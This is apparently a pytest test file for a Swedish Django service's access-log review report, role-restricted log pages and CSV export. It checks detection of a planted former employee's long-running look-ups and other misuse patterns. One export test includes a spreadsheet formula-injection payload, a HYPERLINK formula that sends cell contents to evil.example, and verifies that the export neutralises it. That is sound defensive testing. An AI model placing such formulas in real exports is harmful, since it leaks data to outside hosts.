"""The access log's review report, the municipal extract and IVO's search and export.

The incident behind the issue: a former employee of a municipality kept reading for nine months,
399 look-ups, after changing jobs. The report must find that pattern in realistic log data, and
find nothing of the kind among ordinary case workers.
"""

import collections
import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings
from django.utils import timezone

from access.log_generator import LogUser, generate_access_log, log_user
from access.models import AccessEvent
from access.review import Kind, review_access_log
from access.roles import IVO_ROLES, Role, role_of
from register.models import Municipality
from tests.factories import FacilityFactory, make_user

pytestmark = pytest.mark.django_db

SWEDISH_TIME = ZoneInfo("Europe/Stockholm")
END = datetime.datetime(2025, 6, 2, tzinfo=SWEDISH_TIME)  # a Monday
NINE_MONTHS = datetime.timedelta(days=274)
USER_MUNICIPALITIES = ("0880", "0180", "1480")  # Kalmar, Stockholm, Göteborg: three län
FACILITY_MUNICIPALITIES = {
    "01": ("0180", "0184"),
    "03": ("0380",),
    "08": ("0880", "0883"),
    "12": ("1280", "1281"),
    "14": ("1480",),
    "25": ("2580",),
}


def sign_in(client, user) -> None:
    """Signed in as the service would: IVO staff with the second factor verified (django-otp),
    in case the IVO pages come to require it."""
    client.force_login(user)
    if role_of(user) in IVO_ROLES:
        from django_otp.plugins.otp_totp.models import TOTPDevice

        device = TOTPDevice.objects.create(user=user, name="test", confirmed=True)
        session = client.session
        session["otp_device_id"] = device.persistent_id
        session.save()
        client.cookies[settings.SESSION_COOKIE_NAME] = session.session_key


@pytest.fixture
def facilities(db):
    """Eight facilities in each of six län."""
    created = []
    for county, codes in FACILITY_MUNICIPALITIES.items():
        for n in range(8):
            municipality = Municipality.objects.get(code=codes[n % len(codes)])
            created.append(FacilityFactory(facility_id=f"F{county}-{n}", municipality=municipality))
    return created


@pytest.fixture
def case_workers(db):
    """Forty ordinary municipal users across three municipalities in three län."""
    return [
        make_user(Role.MUNICIPAL_USER, municipality=USER_MUNICIPALITIES[n % 3]) for n in range(40)
    ]


@pytest.fixture
def generated(facilities, case_workers):
    return generate_access_log(
        users=case_workers, start=END - NINE_MONTHS, end=END, seed=399, plant_399=True
    )


def add_events(user: LogUser, times, action=AccessEvent.Action.SEARCH, **values) -> list[int]:
    events = AccessEvent.objects.bulk_create(
        [
            AccessEvent(
                at=at,
                user_id=user.user_id,
                username=user.username,
                role=user.role,
                municipality_code=user.municipality_code,
                action=action,
                **values,
            )
            for at in times
        ]
    )
    return [event.pk for event in events]


def of_kind(findings, kind):
    return [finding for finding in findings if finding.kind == kind]


def local(day: datetime.date, hour: int, minute: int = 0) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour, minute), tzinfo=SWEDISH_TIME)


def working_days(start: datetime.date, end: datetime.date):
    day = start
    while day < end:
        if day.weekday() < 5:
            yield day
        day += datetime.timedelta(days=1)


# -- the review report -------------------------------------------------------------------------


def test_generated_log__planted_former_employee__modest_daytime_rate(generated):
    planted = AccessEvent.objects.filter(user_id=generated.planted.user_id)

    assert planted.count() == 399
    moments = [timezone.localtime(at, SWEDISH_TIME) for at in planted.values_list("at", flat=True)]
    assert min(m.hour for m in moments) >= 9 and max(m.hour for m in moments) < 16  # daytime only
    per_day = collections.Counter(moment.date() for moment in moments)
    busiest_day = max(per_day.values())
    assert busiest_day < 10  # nothing for a volume rule either


def test_review__planted_399_pattern__top_finding_of_its_kind(generated):
    findings = review_access_log(start=END - NINE_MONTHS, end=END)

    long_pattern = of_kind(findings, Kind.LONG_PATTERN)
    assert long_pattern, findings
    top = long_pattern[0]
    assert top.user_id == generated.planted.user_id
    assert top.municipality_code == generated.planted.municipality_code
    assert top.numbers["uppslag"] == 399
    assert top.numbers["dagar_fran_forsta_till_sista"] >= 8 * 30
    assert "utanför Kalmar län" in top.explanation
    assert set(top.example_event_ids) <= set(
        AccessEvent.objects.filter(user_id=top.user_id).values_list("id", flat=True)
    )


def test_review__default_month__still_finds_the_planted_pattern(generated):
    """The monthly review sees the months behind the last one: the long pattern looks back a
    year from the end of the period."""
    findings = review_access_log(start=END - datetime.timedelta(days=30), end=END)

    assert of_kind(findings, Kind.LONG_PATTERN)[0].user_id == generated.planted.user_id
    assert of_kind(findings, Kind.LONG_PATTERN)[0].numbers["uppslag"] == 399


def test_review__generated_case_workers__no_long_pattern_or_outside_county_findings(
    generated, case_workers
):
    normal = {user.pk for user in case_workers}
    for start in (END - NINE_MONTHS, END - datetime.timedelta(days=30)):
        findings = review_access_log(start=start, end=END)

        flagged = {
            finding.user_id
            for finding in findings
            if finding.kind in (Kind.LONG_PATTERN, Kind.OUTSIDE_COUNTY)
        }
        assert flagged == {generated.planted.user_id}
        assert not flagged & normal


def test_review__no_planted_user__nothing_found(facilities, case_workers):
    generate_access_log(
        users=case_workers, start=END - NINE_MONTHS, end=END, seed=7, plant_399=False
    )

    assert review_access_log(start=END - NINE_MONTHS, end=END) == []


def test_review__night_lookups__found_in_swedish_time(facilities, case_workers):
    night_owl = log_user(case_workers[0])
    late_once = log_user(case_workers[1])
    winter_day = datetime.date(2025, 1, 14)
    summer_day = datetime.date(2025, 5, 20)
    night_ids = add_events(
        night_owl,
        [local(winter_day + datetime.timedelta(days=n), 23, 15) for n in range(6)]
        + [local(summer_day + datetime.timedelta(days=n), 2, 30) for n in range(6)],
    )
    add_events(night_owl, [local(summer_day, 21, 59), local(summer_day, 6, 0)])  # not night
    add_events(late_once, [local(summer_day, 22, 30)] * 3)

    findings = of_kind(
        review_access_log(start=datetime.datetime(2025, 1, 1, tzinfo=SWEDISH_TIME), end=END),
        Kind.NIGHT,
    )

    assert [(f.user_id, f.numbers["uppslag_nattetid"]) for f in findings] == [
        (night_owl.user_id, 12)
    ]
    assert set(findings[0].example_event_ids) <= set(night_ids)


def test_review__bulk_personal_data__found_within_an_hour(facilities, case_workers):
    harvester = log_user(case_workers[0])
    careful = log_user(case_workers[1])
    day = datetime.date(2025, 5, 27)
    bulk_ids = add_events(
        harvester,
        [local(day, 10) + datetime.timedelta(minutes=2 * n) for n in range(25)],
        action=AccessEvent.Action.PERSONAL_DATA_VIEW,
        object_type="facility",
        object_id="F08-1",
    )
    add_events(
        careful,
        [local(day - datetime.timedelta(days=n % 7), 9 + n % 8) for n in range(30)],
        action=AccessEvent.Action.PERSONAL_DATA_VIEW,
        object_type="facility",
        object_id="F08-2",
    )

    findings = of_kind(
        review_access_log(start=END - datetime.timedelta(days=30), end=END),
        Kind.BULK_PERSONAL_DATA,
    )

    assert [(f.user_id, f.numbers["visningar_inom_en_timme"]) for f in findings] == [
        (harvester.user_id, 25)
    ]
    assert set(findings[0].example_event_ids) <= set(bulk_ids)


def test_review__volume_spike__found_against_own_weeks_and_municipality(facilities, case_workers):
    colleagues = [log_user(user) for user in case_workers if user.account.municipality_id == "0880"]
    spiker = colleagues[0]
    start = END - datetime.timedelta(days=30)
    for user in colleagues:  # a steady two look-ups a working day for five months
        add_events(
            user,
            [
                local(day, hour)
                for day in working_days((END - datetime.timedelta(days=150)).date(), END.date())
                for hour in (10, 14)
            ],
        )
    spike_day = datetime.date(2025, 5, 21)
    add_events(spiker, [local(spike_day, 9) + datetime.timedelta(minutes=n) for n in range(200)])

    findings = of_kind(review_access_log(start=start, end=END), Kind.VOLUME)

    assert [finding.user_id for finding in findings] == [spiker.user_id]
    numbers = findings[0].numbers
    assert numbers["uppslag_toppveckan"] == 210
    assert numbers["median_per_vecka_tidigare"] == 10
    assert numbers["median_for_kommunens_anvandare"] < 50


# -- the pages ---------------------------------------------------------------------------------


@pytest.fixture
def two_municipalities(db):
    """A user in Kalmar and one in Stockholm, each with a look-up in the log."""
    own = make_user(Role.MUNICIPAL_USER, municipality="0880", email="egen@kalmar.se")
    other = make_user(Role.MUNICIPAL_USER, municipality="0180", email="annan@stockholm.se")
    now = timezone.now()
    add_events(log_user(own), [now - datetime.timedelta(hours=1)], detail="q=egen")
    add_events(log_user(other), [now - datetime.timedelta(hours=1)], detail="q=annan")
    return own, other


def read_csv(response) -> tuple[str, list[list[str]]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return body, list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))


def test_municipal_extract__only_own_municipality_users(client, two_municipalities):
    admin = make_user(Role.MUNICIPAL_ADMIN, municipality="0880")
    sign_in(client, admin)

    page = client.get("/kommun/logg/")
    csv_response = client.get("/kommun/logg/", {"format": "csv"})

    assert page.status_code == 200
    assert "egen@kalmar.se" in page.content.decode()
    assert "annan@stockholm.se" not in page.content.decode()
    assert "q=annan" not in page.content.decode()
    body, rows = read_csv(csv_response)
    assert "egen@kalmar.se" in body
    assert "annan@stockholm.se" not in body and "q=annan" not in body
    assert {row[4] for row in rows[1:]} == {"0880"}


def test_municipal_extract__filter_by_another_municipality_user__nothing(
    client, two_municipalities
):
    sign_in(client, make_user(Role.MUNICIPAL_ADMIN, municipality="0880"))

    response = client.get("/kommun/logg/", {"anvandare": "annan@stockholm.se", "format": "csv"})

    _body, rows = read_csv(response)
    assert rows[1:] == []


@pytest.mark.parametrize(
    ("role", "url", "status"),
    [
        (Role.MUNICIPAL_ADMIN, "/ivo/logg/", 403),
        (Role.MUNICIPAL_ADMIN, "/ivo/logg/granskning/", 403),
        (Role.MUNICIPAL_USER, "/kommun/logg/", 403),
        (Role.MUNICIPAL_USER, "/ivo/logg/", 403),
        (Role.IVO_REGISTRATOR, "/ivo/logg/", 403),
        (Role.IVO_CASE_OFFICER, "/ivo/logg/granskning/", 403),
        (Role.IVO_ADMIN, "/kommun/logg/", 403),
        (Role.MUNICIPAL_ADMIN, "/kommun/logg/", 200),
        (Role.IVO_ADMIN, "/ivo/logg/", 200),
        (Role.IVO_ADMIN, "/ivo/logg/granskning/", 200),
    ],
)
def test_log_pages__by_role(client, role, url, status):
    sign_in(client, make_user(role, municipality="0880"))

    assert client.get(url).status_code == status


@pytest.mark.parametrize("url", ["/kommun/logg/", "/ivo/logg/", "/ivo/logg/granskning/"])
def test_log_pages__anonymous__sent_to_login(client, url):
    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith("/logga-in/")


def test_ivo_export__excel_csv_with_formula_injection_defused(client, two_municipalities):
    own, _other = two_municipalities
    add_events(
        log_user(own),
        [timezone.now()],
        detail='=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    )
    add_events(log_user(own), [timezone.now()], detail="+46 tel", object_id="@F08-1")
    sign_in(client, make_user(Role.IVO_ADMIN))

    response = client.get("/ivo/logg/", {"kommunkod": "0880", "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="atkomstlogg-')
    body, rows = read_csv(response)
    assert body.startswith("\ufeffTid;Användare;Användar-id;Roll;Kommunkod;Händelse;")
    assert rows[0][-1] == "Detaljer"
    details = [row[-1] for row in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")' in details
    assert "'+46 tel" in details
    assert "'@F08-1" in [row[7] for row in rows[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert {row[5] for row in rows[1:]} == {"Sökning"}


def test_ivo_search__filters_and_pages(client, two_municipalities):
    own, other = two_municipalities
    add_events(log_user(other), [timezone.now()] * 60, ip="192.0.2.9")
    sign_in(client, make_user(Role.IVO_ADMIN))

    by_ip = client.get("/ivo/logg/", {"ip": "192.0.2.9"})
    by_user = client.get("/ivo/logg/", {"anvandar_id": own.pk})

    assert by_ip.context["page"].paginator.count == 60
    assert len(by_ip.context["page"].object_list) == 50
    assert 'rel="next"' in by_ip.content.decode()
    assert [event.username for event in by_user.context["page"]] == ["egen@kalmar.se"]


def test_log_pages__a_page_read_is_logged_as_a_view_and_a_download_as_an_export(
    client, two_municipalities
):
    admin = make_user(Role.MUNICIPAL_ADMIN, municipality="0880")
    reviewer = make_user(Role.IVO_ADMIN)
    sign_in(client, admin)
    client.get("/kommun/logg/", {"anvandare": "egen"})
    b"".join(client.get("/kommun/logg/", {"format": "csv"}).streaming_content)
    sign_in(client, reviewer)
    client.get("/ivo/logg/", {"kommunkod": "0180"})
    b"".join(client.get("/ivo/logg/", {"format": "csv", "kommunkod": "0180"}).streaming_content)
    client.get("/ivo/logg/granskning/")

    logged = list(
        AccessEvent.objects.filter(
            action__in=[AccessEvent.Action.LOG_VIEW, AccessEvent.Action.LOG_EXPORT]
        )
        .order_by("id")
        .values_list("action", "username", "municipality_code", "detail")
    )
    view, export = AccessEvent.Action.LOG_VIEW, AccessEvent.Action.LOG_EXPORT
    assert logged == [
        (view, admin.username, "0880", "sida=municipal format=html anvandare=egen"),
        (export, admin.username, "0880", "sida=municipal format=csv"),
        (view, reviewer.username, "", "sida=search format=html kommunkod=0180"),
        (export, reviewer.username, "", "sida=search format=csv kommunkod=0180"),
        (view, reviewer.username, "", logged[4][3]),
    ]
    assert logged[4][3].startswith("sida=granskning fran=")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"fran": "2025-13-01", "till": "2025-06-01"}, "Skriv ett datum som 2025-01-31."),
        ({"fran": "igår", "till": ""}, "Skriv ett datum som 2025-01-31."),
        ({"fran": "2025-06-01", "till": "2025-05-01"}, "Slutdatumet kan inte vara före"),
        ({"fran": "2020-01-01", "till": "2025-01-01"}, "Granska högst"),
    ],
)
def test_review_page__bad_dates__400_with_message(client, query, message):
    sign_in(client, make_user(Role.IVO_ADMIN))

    response = client.get("/ivo/logg/granskning/", query)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert not AccessEvent.objects.filter(
        action__in=[AccessEvent.Action.LOG_VIEW, AccessEvent.Action.LOG_EXPORT]
    ).exists()


def test_extract__bad_dates__400_with_message(client):
    sign_in(client, make_user(Role.MUNICIPAL_ADMIN, municipality="0880"))

    response = client.get("/kommun/logg/", {"fran": "31/12/2025"})

    assert response.status_code == 400
    assert "Skriv ett datum som 2025-01-31." in response.content.decode()


def test_review_page__default_period__shows_planted_user_with_link_to_their_events(
    client, facilities, case_workers
):
    now = timezone.now()
    result = generate_access_log(
        users=case_workers[:9], start=now - NINE_MONTHS, end=now, seed=3, plant_399=True
    )
    sign_in(client, make_user(Role.IVO_ADMIN))

    response = client.get("/ivo/logg/granskning/")

    assert response.status_code == 200
    long_pattern = next(
        group for group in response.context["groups"] if group["kind"] == Kind.LONG_PATTERN
    )
    item = long_pattern["items"][0]
    assert item["finding"].user_id == result.planted.user_id
    assert f"anvandar_id={result.planted.user_id}" in item["search_url"]
    page = response.content.decode()
    assert result.planted.username in page
    assert "Uppslag under lång tid utanför det egna länet" in page
    assert client.get(item["search_url"]).context["page"].paginator.count == 399
